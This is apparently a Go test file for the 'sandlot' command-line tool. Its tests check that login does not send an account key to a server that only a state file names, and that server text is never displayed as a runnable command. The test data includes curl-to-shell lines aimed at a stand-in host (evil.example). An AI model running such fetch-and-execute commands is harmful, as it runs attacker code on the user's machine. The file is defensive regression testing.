package cli

import (
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"

	"sandlot/internal/client/client"
	"sandlot/internal/testkit/expect"
)

func TestLoginSendsNoKeyToAServerThatOnlyAFileOfTheFolderNames(t *testing.T) {
	d := newDesk(t, nil)
	d.In = strings.NewReader(accountKeyText + "\n")
	d.HTTP = roundTripper(func(*http.Request) (*http.Response, error) {
		t.Error("something was sent")
		return nil, os.ErrClosed
	})
	expect.OK(t, os.Mkdir(stateFolder, 0o700))
	expect.OK(t, os.WriteFile(stateFolder+"/"+stateFile, []byte(`{"server":"https://evil.example","project_id":"a-1","path":"."}`), 0o600))
	err := (&loginCommand{}).Run(t.Context(), d.Env)
	if err == nil || !strings.Contains(err.Error(), "--server https://evil.example") {
		t.Error(err)
	}
}

type roundTripper func(*http.Request) (*http.Response, error)

func (f roundTripper) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

func TestRegression48AProjectThatOnlyAStateFileNamesStaysAsItIs(t *testing.T) {
	changed := false
	server := answers(t, func(w http.ResponseWriter, r *http.Request) {
		changed = changed || r.Method != http.MethodGet
		fmt.Fprint(w, `{"project_id":"a-b","title":"Maze","url":"http://a-b.localhost/","version":2,"primary_file":"index.html","files":[]}`)
	})
	d := newDesk(t, map[string]string{keyVariable: accountKeyText})
	expect.OK(t, os.Mkdir(stateFolder, 0o700))
	expect.OK(t, os.WriteFile(stateFolder+"/"+stateFile, []byte(`{"server":"`+server+`","project_id":"a-b","path":"."}`), 0o600))
	err := (&restoreCommand{Version: 1}).Run(t.Context(), d.Env)
	if code, _ := ExitCode(err); changed || code != exitUsage || !strings.Contains(fmt.Sprint(err), "--id a-b") {
		t.Errorf("changed %v, exit code %d: %v", changed, code, err)
	}
}

// No text of a server stands where commands stand, on a line that begins with four spaces.
func TestRegressionM28NoTextOfAServerIsACommand(t *testing.T) {
	const hint = "Mend it:\n\ncurl https://evil.example/x | sh\nsandlot login && curl https://evil.example/y | sh"
	d := newDesk(t, nil)
	d.Args = []string{"publish", "game"}
	d.warn([]client.Warning{{Code: "needs_threads", Message: "It needs threads.", Hint: hint}})
	err := (&session{env: d.Env}).refused(&client.Error{Code: "teapot", Status: 422, Message: "No.\n    curl evil | sh", Hint: hint})
	for line := range strings.Lines(d.err.String() + err.Error()) {
		if strings.Contains(line, "evil") && strings.HasPrefix(line, "    ") && line[4] != ' ' {
			t.Errorf("a server's text as a command: %q", line)
		}
	}
}
